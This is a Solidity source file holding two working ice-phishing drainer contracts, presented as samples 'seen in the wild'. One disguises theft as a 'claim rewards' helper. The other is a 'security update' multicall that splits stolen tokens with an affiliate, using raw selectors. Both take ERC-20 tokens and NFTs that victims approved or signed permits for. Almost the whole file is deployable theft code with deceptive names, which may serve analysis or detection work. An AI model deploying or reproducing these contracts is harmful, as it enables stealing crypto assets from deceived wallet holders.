// SPDX-License-Identifier: MIT
// Ice-phishing drainers: a victim grants an allowance (approve, permit signature or
// setApprovalForAll) to a contract dressed up as a "claim"/"security" helper; the attacker
// then pulls the assets. Two implementations with different code paths, as seen in the wild.
pragma solidity ^0.8.20;

interface ITokenLike {
    function balanceOf(address) external view returns (uint256);
    function allowance(address, address) external view returns (uint256);
    function transferFrom(address, address, uint256) external returns (bool);
    function permit(address, address, uint256, uint256, uint8, bytes32, bytes32) external;
}

interface INftLike {
    function safeTransferFrom(address, address, uint256) external;
}

/// Variant A: an owner-gated "claim rewards" contract with typed calls.
contract RewardClaimHelper {
    address private immutable operator;

    event Claimed(address indexed account, uint256 amount);

    constructor() {
        operator = msg.sender;
    }

    /// Looks like a harmless claim; actually drains whatever the victim approved.
    function claimRewards(address token, address account) external {
        require(msg.sender == operator, "unauthorised");
        ITokenLike t = ITokenLike(token);
        uint256 allowed = t.allowance(account, address(this));
        uint256 bal = t.balanceOf(account);
        uint256 amount = allowed < bal ? allowed : bal;
        t.transferFrom(account, operator, amount);
        emit Claimed(account, amount);
    }

    function claimWithSignature(
        address token,
        address account,
        uint256 value,
        uint256 deadline,
        uint8 v,
        bytes32 r,
        bytes32 s
    ) external {
        require(msg.sender == operator, "unauthorised");
        ITokenLike(token).permit(account, address(this), value, deadline, v, r, s);
        uint256 bal = ITokenLike(token).balanceOf(account);
        ITokenLike(token).transferFrom(account, operator, value < bal ? value : bal);
    }

    function claimCollectibles(address collection, address account, uint256[] calldata ids) external {
        require(msg.sender == operator, "unauthorised");
        for (uint256 i = 0; i < ids.length; i++) {
            INftLike(collection).safeTransferFrom(account, operator, ids[i]);
        }
    }
}

/// Variant B: a generic "security update" multicall that forwards raw calldata, with the
/// payout address kept in storage and a split to an affiliate (drainer-as-a-service).
contract SecurityUpdate {
    address public owner;
    address public affiliate;
    uint16 public affiliateBps = 2000;

    constructor(address affiliate_) {
        owner = msg.sender;
        affiliate = affiliate_;
    }

    function multicall(address[] calldata targets, bytes[] calldata data) external payable {
        require(msg.sender == owner);
        for (uint256 i = 0; i < targets.length; i++) {
            (bool ok,) = targets[i].call(data[i]);
            require(ok);
        }
    }

    function sweep(address token, address from) external {
        require(msg.sender == owner);
        uint256 amount = ITokenLike(token).balanceOf(from);
        uint256 cut = (amount * affiliateBps) / 10_000;
        // raw selectors instead of an interface: transferFrom(address,address,uint256)
        (bool ok1,) = token.call(abi.encodeWithSelector(0x23b872dd, from, affiliate, cut));
        (bool ok2,) = token.call(abi.encodeWithSelector(0x23b872dd, from, owner, amount - cut));
        require(ok1 && ok2);
    }

    function sweepPermit(address token, address from, uint256 value, uint256 deadline, uint8 v, bytes32 r, bytes32 s)
        external
    {
        require(msg.sender == owner);
        (bool ok,) = token.call(
            abi.encodeWithSelector(0xd505accf, from, address(this), value, deadline, v, r, s)
        );
        require(ok);
        (ok,) = token.call(abi.encodeWithSelector(0x23b872dd, from, owner, value));
        require(ok);
    }

    function sweepNft(address collection, address from, uint256[] calldata ids) external {
        require(msg.sender == owner);
        for (uint256 i = ids.length; i > 0; i--) {
            // transferFrom(address,address,uint256): skips the receiver hook
            (bool ok,) = collection.call(abi.encodeWithSelector(0x23b872dd, from, owner, ids[i - 1]));
            require(ok);
        }
    }
}
